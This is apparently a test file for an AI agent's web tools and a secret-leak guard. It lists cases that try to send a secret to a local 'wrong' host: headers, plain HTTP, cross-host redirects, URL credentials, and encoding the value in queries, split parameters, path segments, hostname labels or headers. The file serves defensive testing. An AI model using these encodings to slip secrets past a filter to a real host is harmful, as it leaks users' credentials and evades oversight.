import { type Encoding, encodings } from "./values.ts";
import { type Attempt, arrived, type Way } from "./ways.ts";

const rightUrl = ({ world }: Attempt, path = "/") => `https://localhost:${world.servers.right.port}${path}`;
const wrongUrl = ({ world }: Attempt, path = "/") => `https://127.0.0.1:${world.servers.wrong.port}${path}`;

const fetchUrl = (attempt: Attempt, url: string, headers: Record<string, string> = {}) =>
  attempt.world.call("fetch_url", { url, headers });

const keyOf = ({ name }: Attempt) => ({ "x-key": `secret:${name}` });

const web = (what: string, run: (attempt: Attempt) => Promise<unknown>, right?: Way["right"]): Way => ({
  ...{ where: "web", what, run },
  ...(right && { right }),
});

const learned = (what: string, run: (attempt: Attempt) => Promise<unknown>): Way => ({
  ...web(what, run),
  isLearned: true,
});

/** A value that the model has learned elsewhere, sent to the wrong host by every web tool. */
async function sendLearned(attempt: Attempt, url: string) {
  const { world } = attempt;
  await fetchUrl(attempt, url);
  await world.call("web_fetch", { url });
  await world.call("scrape_page", { url });
}

export const webWays: readonly Way[] = [
  web("a header at the right host", (attempt) => fetchUrl(attempt, rightUrl(attempt), keyOf(attempt)), arrived),
  web("a header at the wrong host", (attempt) => fetchUrl(attempt, wrongUrl(attempt), keyOf(attempt))),
  web("plain HTTP", (attempt) =>
    fetchUrl(attempt, `http://127.0.0.1:${attempt.world.servers.plain.port}/`, keyOf(attempt)),
  ),
  ...[302, 307, 308].map((status) =>
    web(
      `a redirect to another host: ${status}`,
      async (attempt) => {
        await fetchUrl(attempt, rightUrl(attempt, `/to?${status}`), keyOf(attempt));
        await fetchUrl(attempt, wrongUrl(attempt, "/arrived"), keyOf(attempt));
      },
      arrived,
    ),
  ),
  {
    ...web(
      "a query that the user has allowed",
      async (attempt) => {
        const { name } = attempt;
        await fetchUrl(attempt, rightUrl(attempt, `/?key=secret:${name}`));
        await attempt.world.call("web_fetch", { url: wrongUrl(attempt, `/?key=secret:${name}`) });
      },
      ({ world, value }) =>
        world.servers.right.got.some((text) => {
          const [url = ""] = JSON.parse(text) as [string];
          return new URL(url, "https://x").searchParams.get("key") === value;
        }),
    ),
    use: "query",
  },
  {
    ...web("a query, a path and a host that nobody has allowed", async (attempt) => {
      const { name, world } = attempt;
      await fetchUrl(attempt, rightUrl(attempt, `/?key=secret:${name}`));
      await fetchUrl(attempt, rightUrl(attempt, `/secret:${name}`));
      await world.call("web_fetch", { url: `https://secret:${name}@localhost:${world.servers.right.port}/` });
    }),
    endsWith: /contains a user name or password/,
  },
  {
    ...web("errors", async (attempt) => {
      await fetchUrl(attempt, "https://localhost:1/", keyOf(attempt));
      await fetchUrl(attempt, rightUrl(attempt), { ...keyOf(attempt), "bad header": `secret:${attempt.name}` });
      await fetchUrl(attempt, rightUrl(attempt), { authorization: "secret:NOBODY" });
    }),
    endsWith: /The header .*bad header|There is no secret NOBODY/,
  },
  ...(Object.keys(encodings) as Encoding[]).map((encoding) =>
    web(
      `an answer that repeats the value: ${encoding}`,
      async (attempt) => {
        const url = rightUrl(attempt, `/repeat/${encodeURIComponent(encoding)}`);
        await fetchUrl(attempt, url, keyOf(attempt));
        await attempt.world.call("run_program", {
          code: `return (await tools.fetch_url({ url: ${JSON.stringify(url)}, headers: { "x-key": "secret:${attempt.name}" } }));`,
        });
      },
      arrived,
    ),
  ),
  ...(Object.keys(encodings) as Encoding[]).map((encoding) =>
    learned(`a learned value in a URL: ${encoding}`, (attempt) =>
      sendLearned(attempt, wrongUrl(attempt, `/?q=${encodeURIComponent(encodings[encoding](attempt.value))}`)),
    ),
  ),
  learned("a learned value in parts of a query", ({ value, ...attempt }) => {
    const at = 5 + attempt.random.below(value.length - 10);
    const [a, b] = [value.slice(0, at), value.slice(at)].map(encodeURIComponent);
    return sendLearned({ value, ...attempt }, wrongUrl({ value, ...attempt }, `/?a=${a}&other=${b}`));
  }),
  learned("a learned value in a path", (attempt) =>
    sendLearned(attempt, wrongUrl(attempt, `/${[...attempt.value].map(encodeURIComponent).join("/")}`)),
  ),
  learned("a learned value in the name of a host", (attempt) => {
    const labels = attempt.value.replace(/[^A-Za-z0-9]/g, "").match(/.{1,20}/g) ?? [];
    return sendLearned(attempt, `https://${labels.join(".")}.localhost:${attempt.world.servers.wrong.port}/`);
  }),
  learned("a learned value in headers", (attempt) =>
    fetchUrl(attempt, wrongUrl(attempt), { a: attempt.value.slice(0, 10), b: attempt.value.slice(10) }),
  ),
];
